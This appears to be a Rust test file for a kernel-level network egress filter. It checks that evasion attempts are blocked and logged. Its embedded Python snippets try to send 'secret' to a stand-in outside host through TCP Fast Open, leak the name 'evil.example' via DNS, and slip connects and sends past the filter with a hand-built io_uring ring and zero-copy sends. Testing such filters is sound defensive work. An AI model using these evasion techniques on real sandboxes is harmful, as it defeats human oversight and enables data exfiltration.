//! Evasion by a call that does more than one thing at once, or does it elsewhere. The number is that of
//! the case in the list of abuses.

use kernel_tests::{
    check::fields,
    dns::{RESOLVER, refused},
    evasion::attempt_in,
    eventually,
    policies::NAMES,
    run::Bench,
    server::{Place, dns_tcp, frame, reply},
    sniff::Sniffer,
};
use serde_json::json;
use std::{collections::HashSet, fs, net::UdpSocket};

/// Lets clients and servers of this namespace put data into the SYN, without a cookie.
fn fast_open() {
    fs::write("/proc/sys/net/ipv4/tcp_fastopen", "519").expect("the sysctl of this namespace");
}

#[test]
fn case_20_fast_open() {
    let bench = Bench::new();
    fast_open();
    let out = attempt_in(
        &bench,
        "print(tried(lambda: socket.socket().sendto(b'secret', 0x20000000, ('203.0.113.9', 80))))\n\
         s = socket.socket(); s.setsockopt(6, 30, 1)\n\
         print(tried(lambda: (s.connect(('203.0.113.9', 80)), s.sendall(b'secret'))))\n",
    );
    assert_eq!(out.words(), ["EPERM"; 2]);
    let denied = out.denied(&[("dst_ip", json!("203.0.113.9"))]);
    assert_eq!(denied.len(), 2, "{:#?}", out.records);
    for r in denied {
        fields(
            r,
            &json!({"reason": "default", "l4_proto": "tcp", "dst_port": 80, "bytes_out": 0}),
        );
    }
}

#[test]
fn case_20_fast_open_to_the_resolver_carries_no_name_that_no_rule_allows() {
    let bench = Bench::new();
    fast_open();
    let seen = dns_tcp(RESOLVER, |q| vec![frame(&reply(q, &[]))]);
    let wire = Sniffer::start();
    let out = bench.agent_with(
        NAMES,
        &["--linger", "0"],
        "s = socket.socket(); s.settimeout(2)\n\
         m = framed(query('evil.example')); assert s.sendto(m, 0x20000000, (R, 53)) == len(m)\n\
         print(tried(lambda: s.recv(512)))\n",
    );
    assert_eq!(out.words(), ["timeout"]);
    let leaked = wire
        .to(RESOLVER)
        .iter()
        .any(|p| p.rest.windows(4).any(|w| w == b"evil"));
    assert!(!leaked, "the name was on the wire");
    assert_eq!(seen.all(), Vec::<Vec<u8>>::new());
    let refused = refused(&out);
    assert!(!refused.is_empty(), "{:#?}", out.records);
    for r in refused {
        assert_eq!(r, ("name".to_owned(), json!("evil.example")));
    }
}

/// A ring set up by hand: `Ring(flags).do(opcode, …)` makes one request and says what came of it.
const URING: &str = r"
libc = ctypes.CDLL(None, use_errno=True); libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
def sockaddr(ip, port): return ctypes.create_string_buffer(struct.pack('<H', 2) + struct.pack('>H', port) + socket.inet_aton(ip) + bytes(8), 16)
class Ring:
    def __init__(self, flags):
        p = ctypes.create_string_buffer(120); struct.pack_into('I', p, 8, flags); struct.pack_into('I', p, 16, 100)
        self.fd = libc.syscall(425, 4, p); self.poll = 2 if flags else 0; self.done = 0
        if self.fd < 0: raise OSError(ctypes.get_errno(), 'io_uring_setup')
        self.sq, self.cq = struct.unpack_from('8I', p, 40), struct.unpack_from('8I', p, 80)
        self.ring, self.cring, self.sqes = (libc.mmap(None, 4096, 3, 0x8001, self.fd, o) for o in (0, 0x8000000, 0x10000000))
    def word(self, base, off): return ctypes.c_uint.from_address(base + off)
    def enter(self, n): assert libc.syscall(426, self.fd, n, 1, 1 | self.poll, None, 0) >= 0, os.strerror(ctypes.get_errno())
    def results(self):
        while self.done != self.word(self.cring, self.cq[1]).value:
            at = self.cring + self.cq[5] + 16 * (self.done & self.word(self.cring, self.cq[2]).value)
            self.done += 1; self.word(self.cring, self.cq[0]).value = self.done
            # Eight is the word that a buffer is no longer in use.
            if not self.word(at, 12).value & 8: yield ctypes.c_int.from_address(at + 8).value
    def do(self, op, fd, addr=None, n=0, to=None, off=0):
        assert not list(self.results())
        at, off = addr and ctypes.addressof(addr) or 0, to and ctypes.addressof(to) or off
        sqe = struct.pack('BBHiQQIIQHHHH16x', op, 0, 0, fd, off, at, n, 0, 1, 0, 0, 16 if to else 0, 0)
        ctypes.memmove(self.sqes, sqe, 64); self.word(self.ring, self.sq[6]).value = 0; self.word(self.ring, self.sq[1]).value += 1
        self.enter(1); got = list(self.results())
        while not got: self.enter(0); got = list(self.results())
        return errno.errorcode.get(-got[0], got[0])
";

/// What io_uring is called by number: `include/uapi/linux/io_uring.h`.
const CALLS: &str = "\
    SENDMSG, CONNECT, SEND, SOCKET, SEND_ZC = 9, 16, 26, 45, 47\n\
    bad, good = sockaddr('203.0.113.9', 80), sockaddr('192.0.2.1', 80)\n\
    data = ctypes.create_string_buffer(b'hello', 5)\n\
    iov = ctypes.create_string_buffer(struct.pack('QQ', ctypes.addressof(data), 5))\n\
    msg = ctypes.create_string_buffer(struct.pack('QQQQQQQ', ctypes.addressof(bad), 16, ctypes.addressof(iov), 1, 0, 0, 0))\n\
    for flags in (0, 2):\n  \
    r = Ring(flags)\n  \
    t, u = socket.socket(), dgram()\n  \
    print(r.do(CONNECT, t.fileno(), bad, off=16), r.do(SENDMSG, u.fileno(), msg, 1))\n  \
    print(r.do(SEND, u.fileno(), data, 5, to=bad), r.do(SEND_ZC, u.fileno(), data, 5, to=bad), r.do(SOCKET, 2, n=1, off=3))\n  \
    print(r.do(CONNECT, t.fileno(), good, off=16), r.do(SEND, t.fileno(), data, 5)); t.close()\n";

/// By whom every request is carried out: the caller, or a thread of the kernel's (SQPOLL).
const CALLERS: [&str; 2] = ["python3", "iou-sqp-"];

#[test]
fn case_21_io_uring() {
    let bench = Bench::new();
    let place = Place::open("192.0.2.1:80");
    let disabled = fs::read_to_string("/proc/sys/kernel/io_uring_disabled");
    if disabled.as_ref().is_ok_and(|d| d.trim() != "0") {
        let out = attempt_in(&bench, &format!("{URING}print(tried(lambda: Ring(0)))"));
        assert_eq!(out.words(), ["EPERM"], "io_uring_disabled is {disabled:?}");
        return;
    }
    let out = attempt_in(&bench, &format!("{URING}{CALLS}"));
    let each = ["EPERM", "EPERM", "EPERM", "EPERM", "EPERM", "0", "5"];
    assert_eq!(out.words(), [each, each].concat());
    for caller in CALLERS {
        let by = |proto: &str, dst: Option<&str>| {
            let all = out.denied(&[("l4_proto", json!(proto))]);
            all.iter()
                .filter(|r| r["dst_ip"].as_str() == dst)
                .filter(|r| r["comm"].as_str().is_some_and(|c| c.starts_with(caller)))
                .inspect(|r| {
                    let reason = if dst.is_some() {
                        "default"
                    } else {
                        "raw_socket"
                    };
                    fields(
                        r,
                        &json!({"reason": reason, "bytes_out": 0, "close_reason": "denied"}),
                    );
                })
                .count()
        };
        let far = Some("203.0.113.9");
        assert_eq!(
            (by("tcp", far), by("udp", far), by("icmp", None)),
            (1, 3, 1)
        );
    }
    let allowed = out.matching(&[("verdict", json!("ALLOWED"))]);
    assert_eq!((allowed.len(), place.calls()), (2, 2), "{:#?}", out.records);
    for r in allowed {
        fields(
            r,
            &json!({"rule": "four", "bytes_out": 5, "close_reason": "fin"}),
        );
    }
    eventually("all bytes", || (place.bytes() == 10).then_some(()));
    let pids: HashSet<_> = out.records.iter().map(|r| r["pid"].as_u64()).collect();
    assert_eq!(pids.len(), 1, "threads of the kernel's are the process's");
}

#[test]
fn sends_without_a_copy_are_judged_and_counted() {
    let bench = Bench::new();
    let place = Place::open("192.0.2.1:80");
    let heard = UdpSocket::bind("192.0.2.1:80").unwrap();
    let out = attempt_in(
        &bench,
        "ZEROCOPY = 0x4000000\n\
         def opened(s): s.setsockopt(1, 60, 1); return s\n\
         t = opened(socket.socket()); t.connect(('192.0.2.1', 80)); n = 0\n\
         while n < 200_000: n += t.send(bytes(200_000 - n), ZEROCOPY)\n\
         f = os.memfd_create('x'); os.truncate(f, 100_000); n = 0\n\
         while n < 100_000: n += os.sendfile(t.fileno(), f, n, 100_000 - n)\n\
         u = opened(dgram()); u.sendto(bytes(30_000), ZEROCOPY, ('192.0.2.1', 80))\n\
         t.close(); print(tried(lambda: u.sendto(bytes(30_000), ZEROCOPY, ('203.0.113.9', 80))))\n\
         print(tried(lambda: opened(socket.socket()).connect(('203.0.113.9', 80))))\n",
    );
    assert_eq!(out.words(), ["EPERM"; 2]);
    eventually("all bytes", || (place.bytes() == 300_000).then_some(()));
    assert_eq!(heard.recv(&mut vec![0; 1 << 16]).unwrap(), 30_000);
    fields(
        out.only(&[("rule", json!("four"))]),
        &json!({"verdict": "ALLOWED", "bytes_out": 300_000, "bytes_in": 0, "close_reason": "fin"}),
    );
    fields(
        out.only(&[("rule", json!("datagrams"))]),
        &json!({"verdict": "ALLOWED", "bytes_out": 30_000, "packets_out": 1}),
    );
    for proto in ["tcp", "udp"] {
        out.only_denied(&[("dst_ip", json!("203.0.113.9")), ("l4_proto", json!(proto))]);
    }
}
